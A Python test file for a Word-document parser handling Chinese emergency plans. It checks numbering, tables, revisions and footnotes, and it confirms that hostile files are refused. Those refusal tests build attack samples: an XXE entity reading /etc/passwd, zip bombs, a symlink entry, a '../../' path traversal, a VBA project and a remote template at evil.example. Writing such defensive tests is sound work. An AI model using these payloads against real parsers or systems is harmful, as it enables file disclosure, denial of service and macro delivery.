# ruff: noqa: E501 - documents as data
"""Word files: what readers see, and what must not get in."""

import io
import stat
import warnings
import zipfile

import pytest

from content.plans.domain import errors
from content.plans.domain.parse import NodeKind
from content.plans.domain.pipeline import parse_bytes
from portal.foundation.files.domain import ArchiveRefused, FileRefused, ParserFailed

NUMBERING = """
<w:abstractNum w:abstractNumId="0">
<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="chineseCounting"/><w:suff w:val="nothing"/><w:lvlText w:val="%1、"/></w:lvl>
<w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="chineseCounting"/><w:suff w:val="nothing"/><w:lvlText w:val="（%2）"/></w:lvl>
<w:lvl w:ilvl="2"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%3."/></w:lvl>
</w:abstractNum>
<w:abstractNum w:abstractNumId="1">
<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1"/><w:pStyle w:val="H1"/></w:lvl>
<w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1.%2"/><w:pStyle w:val="H2"/></w:lvl>
</w:abstractNum>
<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>
<w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num>
<w:num w:numId="3"><w:abstractNumId w:val="0"/><w:lvlOverride w:ilvl="2"><w:startOverride w:val="1"/></w:lvlOverride></w:num>
"""
STYLES = """
<w:style w:type="paragraph" w:styleId="H1"><w:name w:val="heading 1"/><w:pPr><w:numPr><w:numId w:val="2"/></w:numPr></w:pPr></w:style>
<w:style w:type="paragraph" w:styleId="H2"><w:name w:val="heading 2"/><w:basedOn w:val="H1"/></w:style>
<w:style w:type="paragraph" w:styleId="T1"><w:name w:val="toc 1"/></w:style>
"""


def test_automatic_chinese_numbers_appear_in_the_text(word, nothing_lost, tree):
    body = "".join(
        word.paragraph(text, number)
        for text, number in [
            ("安澜县演练工作方案", None), ("总体要求", (0, 1)), ("目标", (1, 1)), ("提高能力。", None),
            ("原则", (1, 1)), ("安全第一。", (2, 1)), ("主要任务", (0, 1)), ("编制计划", (1, 1)), ("按年编制。", None),
        ]
    )  # fmt: skip
    parsed = parse_bytes(word.docx(body, NUMBERING), "plan.docx")
    nothing_lost(parsed)
    assert tree(parsed) == [
        (1, "一、", "总体要求"), (2, "（一）", "目标"), (2, "（二）", "原则"),
        (1, "二、", "主要任务"), (2, "（一）", "编制计划"),
    ]  # fmt: skip
    assert [n.number for n in parsed.nodes if n.text == "安全第一。"] == ["1."]


def test_numbers_that_come_from_heading_styles_are_kept(word, nothing_lost, tree):
    body = "".join(
        [
            word.paragraph("安澜县地震应急预案"), word.paragraph("总则", style="H1"),
            word.paragraph("目的", style="H2"), word.paragraph("为了减灾。"),
            word.paragraph("依据", style="H2"), word.paragraph("依据法律。"),
            word.paragraph("附则", style="H1"), word.paragraph("自印发之日起施行。"),
        ]
    )  # fmt: skip
    parsed = parse_bytes(word.docx(body, NUMBERING, STYLES), "plan.docx")
    nothing_lost(parsed)
    assert tree(parsed) == [
        (1, "1", "总则"),
        (2, "1.1", "目的"),
        (2, "1.2", "依据"),
        (1, "2", "附则"),
    ]
    assert parsed.metadata.title == "安澜县地震应急预案"


def test_deleted_revisions_are_out_and_inserted_ones_are_in(word):
    body = (
        "<w:p><w:r><w:t>一、总则</w:t></w:r></w:p><w:p><w:r><w:t>应当</w:t></w:r>"
        "<w:del><w:r><w:delText>立刻</w:delText></w:r></w:del>"
        "<w:ins><w:r><w:t>立即</w:t></w:r></w:ins><w:r><w:t>报告。</w:t></w:r></w:p>"
    )
    parsed = parse_bytes(word.docx(body), "plan.docx")
    assert parsed.nodes[-1].text == "应当立即报告。"


def test_tables_keep_their_cells_and_merges(word, nothing_lost):
    def cell(text, properties=""):
        return f"<w:tc><w:tcPr>{properties}</w:tcPr><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>"

    body = _table_body(word, cell)
    parsed = parse_bytes(word.docx(body), "plan.docx")
    nothing_lost(parsed)
    assert (parsed.tables[0].rows, parsed.tables[0].columns) == (3, 3)
    table = parsed.nodes[parsed.tables[0].node]
    assert (table.kind, table.heading) == (NodeKind.TABLE, "表1 响应级别")
    merged = next(c for c in parsed.cells if c.text == "Ⅰ级")
    assert (merged.row, merged.row_span) == (1, 2)
    assert next(c for c in parsed.cells if c.text == "条件和措施").column_span == 2


def _table_body(word, cell):
    wide, top, below = '<w:gridSpan w:val="2"/>', '<w:vMerge w:val="restart"/>', "<w:vMerge/>"
    rows = [
        cell("级别") + cell("条件和措施", wide),
        cell("Ⅰ级", top) + cell("死亡10人以上") + cell("县长指挥"),
        cell("", below) + cell("失踪10人以上") + cell("同上"),
    ]
    return (
        word.paragraph("一、响应分级")
        + word.paragraph("表1 响应级别")
        + "<w:tbl>" + "".join(f"<w:tr>{row}</w:tr>" for row in rows) + "</w:tbl>"
        + word.paragraph("二、附则") + word.paragraph("完。")
    )  # fmt: skip


def test_text_boxes_and_footnotes_are_kept(word, nothing_lost):
    body = (
        word.paragraph("一、总则")
        + '<w:p><w:r><w:t>立即报告</w:t></w:r><w:r><w:footnoteReference w:id="2"/></w:r>'
        "<w:r><w:txbxContent><w:p><w:r><w:t>框里的话。</w:t></w:r></w:p></w:txbxContent></w:r></w:p>"
    )
    notes = f'<w:footnotes {word.W}><w:footnote w:id="2"><w:p><w:r><w:t>不超过1小时。</w:t></w:r></w:p></w:footnote></w:footnotes>'
    parsed = parse_bytes(word.docx(body, extra={"word/footnotes.xml": notes}), "plan.docx")
    nothing_lost(parsed)
    assert "框里的话。" in parsed.original
    assert "〔注1〕不超过1小时。" in parsed.original


def test_a_table_of_contents_is_a_repair_and_not_a_second_outline(word, nothing_lost, tree):
    parts = ("一、总则", "二、职责", "三、响应", "四、附则")
    body = "".join(
        [
            word.paragraph("目录"),
            *(word.paragraph(f"{part}\t{page}", style="T1") for page, part in enumerate(parts, 1)),
            *(word.paragraph(line) for part in parts for line in (part, "为了安全。")),
        ]
    )
    parsed = parse_bytes(word.docx(body, styles=STYLES), "plan.docx")
    nothing_lost(parsed)
    assert tree(parsed) == [(1, part[:2], part[2:]) for part in parts]
    assert not parsed.tables
    assert {r.kind for r in parsed.repairs} == {"contents"}


ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def bomb():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * (80 * 1024 * 1024))
    return buffer.getvalue()


def lying_bomb():
    """A part whose declared size is small and whose content is not."""
    data = bytearray(bomb())
    size = (80 * 1024 * 1024).to_bytes(4, "little")
    at = data.rfind(size)
    data[at : at + 4] = (1000).to_bytes(4, "little")
    return bytes(data)


TEMPLATE = (
    b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


def link(name):
    """An entry that is a symbolic link."""
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def with_entry(word, entry, content=b"/etc/passwd"):
    buffer = io.BytesIO(word.docx(word.paragraph("一")))
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # about the name that is there twice
        archive.writestr(entry, content)
    return buffer.getvalue()


def flagged_encrypted(data):
    """The central directory says the first entry is encrypted."""
    data = bytearray(data)
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


@pytest.mark.parametrize(
    ("make", "refusal"),
    [
        (lambda w: b"", errors.EmptyDocument),
        (lambda w: "一、总则".encode(), errors.WrongExtension),
        (lambda w: b"PK\x03\x04 broken", ParserFailed),
        (lambda w: w.docx("")[:-40], ParserFailed),
        (lambda w: w.docx("", document="<w:document"), errors.CorruptDocument),
        (lambda w: w.docx("", document=ENTITY + f"<w:document {w.W}>&a;</w:document>"), ArchiveRefused),
        (lambda w: w.docx("", document=f"<w:document {w.W}/>"), errors.CorruptDocument),
        (lambda w: w.docx(w.paragraph("一"), extra={"word/vbaProject.bin": b"x"}), ArchiveRefused),
        (lambda w: flagged_encrypted(w.docx(w.paragraph("一"))), ArchiveRefused),
        (lambda w: bomb(), ArchiveRefused),
        (lambda w: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), errors.EncryptedDocument),
        (lambda w: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"WordDocument", errors.WrongExtension),
        (lambda w: with_entry(w, link("word/link")), ArchiveRefused),
        (lambda w: with_entry(w, "../../evil.xml"), ArchiveRefused),
        (lambda w: with_entry(w, "word/document.xml"), ArchiveRefused),
        (lambda w: with_entry(w, "word/media/sheet.xlsx"), ArchiveRefused),
        (lambda w: with_entry(w, "word/media/object.bin", b"PK\x03\x04x"), ArchiveRefused),
        (lambda w: with_entry(w, "word/_rels/settings.xml.rels", TEMPLATE), ArchiveRefused),
        (lambda w: with_entry(w, "word/media/a.bmp", b"\0" * 1024**2), ArchiveRefused),
        (lambda w: w.docx(w.paragraph("  ")), errors.EmptyDocument),
        (lambda w: w.docx("<w:sdt>" * 200 + w.paragraph("一") + "</w:sdt>" * 200), errors.CorruptDocument),
    ],
)  # fmt: skip
def test_what_is_no_honest_word_file_is_refused_in_words(word, make, refusal):
    with pytest.raises(refusal) as caught:
        parse_bytes(make(word), "plan.docx")
    assert caught.value.message.endswith("库里没有改动。")


def test_a_part_that_unpacks_to_more_than_it_says_is_refused():
    with pytest.raises(FileRefused):
        parse_bytes(lying_bomb(), "plan.docx")


def test_a_zip_that_is_no_word_file_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "x")
    with pytest.raises(errors.WrongExtension):
        parse_bytes(buffer.getvalue(), "plan.docx")


@pytest.mark.parametrize(
    ("instruction", "shown"),
    [
        ("eq \\o\\ac(○,3)", "③"), (" EQ \\o\\ac(○,12) ", "⑫"), ("eq \\f(1,2)", "(1,2)"),
        ("eq \\o\\ac(○,21)", "(○,21)"), (" PAGE ", ""), ("EQUIP x", ""),
    ],
)  # fmt: skip
def test_a_field_without_a_result_shows_what_it_says(word, instruction, shown):
    def mark(kind):
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    code = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in instruction)
    told = f"{mark('separate')}<w:r><w:t>应急局</w:t></w:r>"
    link = f"{mark('begin')}<w:r><w:instrText>HYPERLINK x</w:instrText></w:r>{told}{mark('end')}"
    body = f"<w:p>{mark('begin')}{code}{mark('end')}<w:r><w:t>查险，见</w:t></w:r>{link}</w:p>"
    assert parse_bytes(word.docx(body), "a.docx").original == f"{shown}查险，见应急局\n"
